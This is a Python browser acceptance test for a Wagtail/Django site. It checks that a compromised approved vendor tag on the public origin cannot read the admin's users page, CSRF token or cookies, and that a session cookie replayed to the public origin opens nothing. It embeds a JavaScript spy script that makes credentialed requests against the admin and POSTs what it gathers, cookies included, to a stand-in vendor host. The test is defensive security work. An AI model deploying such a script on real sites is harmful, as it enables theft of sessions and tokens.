"""The acceptance test of the admin's own origin (issue 14, point 1), in a real Chromium: an IT
administrator signed in to the admin (two-factor done) opens a public page carrying an approved
vendor's site tag, whose script tries every way it has to the admin; what it sends home to its
vendor is all it got. The site runs as the demo does: the public site on 127.0.0.1 and the
admin on localhost, one port. The CSP is report-only, so what holds is the origin, not the
policy.

Database work stays outside ``sync_playwright()`` (Django refuses ORM calls while its event
loop runs in this thread).
"""

import base64
import hashlib
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from wagtail.models import PageViewRestriction, Site

from commonground.core.http.web_server import granian_command
from commonground.governance.csp.models import SecuritySettings, SiteTag
from commonground.governance.models import ReviewedScript

from ..browser import BROWSER_TEST, launch_chromium
from ..conftest import sign_in_to_admin
from ..content.factories import StandardPageFactory
from ..governance.factories import registered_technology
from ..live_http import Browser, QuietHandler, serve_on_loopback
from ..processes import Process, free_port, subprocess_env, wait_for

pytestmark = BROWSER_TEST

VENDOR = "spy.vendor.test"

# What a malicious (or compromised) approved tag would do: read the admin's users page and its
# CSRF token every way a page script can, and send whatever it got to its vendor.
SPY_SCRIPT = """
(async function () {
  var adminUsers = "%(admin)s/admin/users/";
  var got = {origin: location.origin, cookie: document.cookie};
  async function grab(name, url, options) {
    try {
      var answer = await fetch(url, options);
      var text = await answer.text();
      got[name] = {status: answer.status, url: answer.url, type: answer.type,
                   body: text.slice(0, 200000)};
    } catch (error) { got[name] = {error: String(error)}; }
  }
  await grab("control", "/");
  await grab("same_origin", "/admin/users/");
  await grab("same_origin_credentials", "/admin/users/", {credentials: "include"});
  await grab("admin_origin", adminUsers, {credentials: "include"});
  await grab("admin_origin_no_cors", adminUsers, {credentials: "include", mode: "no-cors"});
  await new Promise(function (done) {
    var xhr = new XMLHttpRequest();
    xhr.open("GET", adminUsers);
    xhr.withCredentials = true;
    xhr.onload = function () { got.xhr = {status: xhr.status, body: xhr.responseText}; done(); };
    xhr.onerror = function () { got.xhr = {error: "network error"}; done(); };
    xhr.send();
  });
  await fetch("http://%(vendor)s/report", {method: "POST", mode: "no-cors",
                                           body: JSON.stringify(got)});
})();
"""


@dataclass
class SpyVendor:
    url: str = ""
    admin_url: str = ""
    reports: list[dict[str, Any]] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)


@contextmanager
def spy_vendor(admin_url: str) -> Iterator[SpyVendor]:
    """The vendor's server, as Chromium's proxy: serves the tag's script, keeps its reports."""
    vendor = SpyVendor(admin_url=admin_url)
    lock = threading.Lock()

    class Handler(QuietHandler):
        def do_GET(self) -> None:
            target = urlsplit(self.path)
            with lock:
                vendor.requests.append(f"GET {target.hostname}{target.path}")
            body = (SPY_SCRIPT % {"admin": admin_url, "vendor": VENDOR}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            # As a CDN answers: the tag is loaded with crossorigin="anonymous" for its SRI.
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            target = urlsplit(self.path)
            data = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            with lock:
                vendor.requests.append(f"POST {target.hostname}{target.path}")
                if target.hostname == VENDOR:  # not Chromium's own update pings
                    vendor.reports.append(json.loads(data))
            self.send_response(204)
            self.end_headers()

    with serve_on_loopback(Handler) as url:
        vendor.url = url
        yield vendor


@pytest.fixture
def two_origin_server(
    transactional_db: None,
    django_db_serialized_rollback: None,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[str, str]]:
    """granian as the demo runs it: the site at http://127.0.0.1:PORT, the admin at
    http://localhost:PORT; (public URL, admin URL)."""
    port = free_port()
    public, admin = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
    server = Process(
        "granian-two-origins",
        granian_command(host="127.0.0.1", port=port, workers=2),
        env=subprocess_env(BASE_URL=public, ADMIN_BASE_URL=admin),
        log_dir=tmp_path_factory.mktemp("granian-two-origins"),
    )

    def answers() -> bool:
        server.assert_running()
        try:
            return Browser().get(f"{public}/robots.txt").status == 200
        except OSError:
            return False

    try:
        wait_for(answers, timeout=60, interval=0.25)
        yield public, admin
    finally:
        server.stop()


def test_an_approved_vendor_script_gets_nothing_of_a_signed_in_it_admins_admin(
    two_origin_server: tuple[str, str], home: Any, it_admin: Any
) -> None:
    from playwright.sync_api import sync_playwright

    public, admin = two_origin_server
    registered_technology(it_admin, name="Spy tag", hosts={"script-src": [VENDOR]})
    SiteTag.objects.create(name="Spy", script_url=f"http://{VENDOR}/spy.js", placement="head")
    # Reviewed by IT as governance/scripts records it (a tag without a reviewed hash is not
    # emitted): the hash of exactly what the vendor serves, so the browser runs it.
    served = (SPY_SCRIPT % {"admin": admin, "vendor": VENDOR}).encode()
    integrity = "sha384-" + base64.b64encode(hashlib.sha384(served).digest()).decode()
    ReviewedScript.objects.create(
        url=f"http://{VENDOR}/spy.js",
        integrity=integrity,
        status=ReviewedScript.Status.REVIEWED,
        reviewed_by=it_admin,
    )
    site = Site.objects.get(is_default_site=True)
    SecuritySettings.objects.update_or_create(
        site=site, defaults={"csp_mode": SecuritySettings.CspMode.REPORT_ONLY}
    )
    members = StandardPageFactory(parent=home, title="Members", slug="members")
    PageViewRestriction.objects.create(page=members, restriction_type=PageViewRestriction.LOGIN)
    username = it_admin.username

    with spy_vendor(admin) as vendor, sync_playwright() as playwright:
        browser = launch_chromium(
            playwright, proxy={"server": vendor.url, "bypass": "127.0.0.1,localhost"}
        )
        context = browser.new_context()
        tab = context.new_page()
        sign_in_to_admin(tab, admin, username)
        # The admin really is open in this browser: the users page, token and all.
        tab.goto(f"{admin}/admin/users/")
        assert username in tab.content()
        assert "csrfmiddlewaretoken" in tab.content()

        tab.goto(f"{public}/")
        wait_for(lambda: vendor.reports, timeout=20)
        cookies = context.cookies()
        # The same page in the admin's "view draft", on the admin origin: the tag is in the
        # HTML, but the admin origin's script policy keeps it from loading at all.
        draft = tab.goto(f"{admin}/admin/pages/{home.pk}/view_draft/")
        assert draft is not None and draft.status == 200
        assert f"http://{VENDOR}/spy.js" in tab.content()
        tab.wait_for_load_state("networkidle")
        tags_loaded = vendor.requests.count(f"GET {VENDOR}/spy.js")
        browser.close()

    assert tags_loaded == 1, "loaded by the public page only, not by the admin's view draft"
    assert len(vendor.reports) == 1
    report = vendor.reports[0]
    text = json.dumps(report)
    assert report["origin"] == public
    assert report["control"]["status"] == 200, "the script ran and could fetch the site"
    assert "<html" in report["control"]["body"].lower()
    # Nothing of the admin and no token, whichever way it asked.
    assert report["cookie"] == ""
    assert "csrfmiddlewaretoken" not in text
    assert "csrftoken" not in text
    assert username not in text
    for name in ("same_origin", "same_origin_credentials", "admin_origin", "xhr"):
        assert "error" in report[name], (name, report[name])
    assert report["admin_origin_no_cors"].get("body", "") == ""  # opaque: unreadable
    # The admin's cookies live on its host only; the public host holds none.
    assert {cookie["domain"] for cookie in cookies} == {"localhost"}
    session = next(cookie["value"] for cookie in cookies if cookie["name"] == "sessionid")

    # That session, sent to the public origin over HTTP, opens nothing and gets no cookie.
    visitor = Browser()
    private = visitor.request(f"{public}/members/", headers={"Cookie": f"sessionid={session}"})
    assert private.status == 302
    assert private.headers["location"].startswith("/_util/login/?next=/members/")
    assert "set-cookie" not in private.headers
    front = visitor.request(f"{public}/", headers={"Cookie": f"sessionid={session}"})
    assert front.status == 200
    assert "set-cookie" not in front.headers
    assert username not in front.text
    moved = visitor.request(f"{public}/admin/users/", headers={"Cookie": f"sessionid={session}"})
    assert moved.status == 302
    assert moved.headers["location"] == f"{admin}/admin/users/"


def test_a_login_only_page_opens_on_the_admin_origin_after_both_factors(
    two_origin_server: tuple[str, str], home: Any, it_admin: Any
) -> None:
    from playwright.sync_api import sync_playwright

    from ..core.factories import PASSWORD, app_code, authenticator_key

    public, admin = two_origin_server
    members = StandardPageFactory(parent=home, title="Members corner", slug="members")
    PageViewRestriction.objects.create(page=members, restriction_type=PageViewRestriction.LOGIN)
    username = it_admin.username

    with sync_playwright() as playwright:
        browser = launch_chromium(playwright)
        tab = browser.new_page()
        tab.goto(f"{public}/members/")
        # Nobody is signed in on the public origin: its sign-in is the admin's.
        assert tab.url == f"{admin}/admin/login/?next=/members/"
        tab.fill("[name=username]", username)
        tab.fill("[name=password]", PASSWORD)
        tab.locator("form button[type=submit]").first.click()
        # The password alone opens nothing: the code is asked for, the page remembered.
        tab.wait_for_url(f"{admin}/admin/two-factor/verify/?next=%2Fmembers%2F")
        tab.fill("[name=code]", app_code(authenticator_key(username)))
        tab.locator("form.login-form button[type=submit]").click()
        tab.wait_for_url(f"{admin}/members/")
        assert "Members corner" in tab.locator("h1").first.inner_text()
        # The public site's own pages are still the public origin's.
        tab.goto(f"{admin}/")
        assert tab.url == f"{public}/"
        browser.close()
